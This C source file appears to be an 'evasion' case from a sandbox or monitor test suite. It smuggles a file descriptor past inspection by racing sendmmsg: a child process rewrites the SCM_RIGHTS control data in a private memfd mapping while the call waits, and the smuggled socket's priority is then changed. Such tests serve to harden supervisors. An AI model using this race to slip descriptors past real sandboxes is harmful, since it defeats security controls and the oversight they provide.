/* Evasion: which descriptor is sent stands in a private mapping of a file, to which a child writes another one while the call waits. */
#include "kept_pair.h"

/* The descriptor in the next message, if there is one. */
static int taken(int from)
{
    union {
        struct cmsghdr header;
        char bytes[CMSG_SPACE(sizeof(int))];
    } control;
    char byte;
    int fd = -1;
    struct iovec part = {&byte, 1};
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = &control, .msg_controllen = sizeof control};
    check(recvmsg(from, &message, MSG_CMSG_CLOEXEC) == 1, "recvmsg");
    if (message.msg_controllen > 0)
        memcpy(&fd, CMSG_DATA(&control.header), sizeof fd);
    return fd;
}

/* Waits until its parent does. */
static void wait_for_sleep(void)
{
    char path[64], line[256] = "";
    snprintf(path, sizeof path, "/proc/%d/stat", getppid());
    while (strstr(line, ") S ") == NULL) {
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        check(fd >= 0 && read(fd, line, sizeof line - 1) > 0, path);
        close(fd);
    }
}

static void handle(const char *secret)
{
    int pair[2], pipes[2], found = priority_of(kept[0]), wanted = 1 + secret[strlen(secret) - 1] % 5;
    struct {
        struct cmsghdr header;
        int fd;
    } control = {.header = {CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS}};
    check(pipe2(pipes, O_CLOEXEC) == 0 && socketpair(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0, pair) == 0, "pair");
    control.fd = pipes[0];
    int file = memfd_create("control", MFD_CLOEXEC);
    check(file >= 0 && write(file, &control, sizeof control) == sizeof control, "memfd");
    char *mapped = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
    check(mapped != MAP_FAILED, "mmap");
    int waiting = 0;
    while (send(pair[1], "x", 1, MSG_DONTWAIT) == 1)
        waiting++;
    pid_t child = fork();
    check(child >= 0, "fork");
    if (child == 0) {
        wait_for_sleep();
        check(pwrite(file, &kept[0], sizeof kept[0], sizeof control.header) == sizeof kept[0], "pwrite");
        for (int at = 0; at < waiting; at++)
            check(taken(pair[0]) == -1, "nothing but a byte");
        _exit(0);
    }
    char byte = 0;
    struct iovec part = {&byte, 1};
    struct mmsghdr messages[2] = {{.msg_hdr = {.msg_iov = &part, .msg_iovlen = 1}},
        {.msg_hdr = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = mapped, .msg_controllen = CMSG_LEN(sizeof(int))}}};
    check(sendmmsg(pair[1], messages, 2, 0) == 2, "sendmmsg");
    check(waitpid(child, NULL, 0) == child, "waitpid");
    check(taken(pair[0]) == -1, "nothing but a byte");
    int same = taken(pair[0]);
    check(same >= 0 && setsockopt(same, SOL_SOCKET, SO_PRIORITY, &wanted, sizeof wanted) == 0, "setsockopt");
    answer("{\"priority\":%d}", found);
}
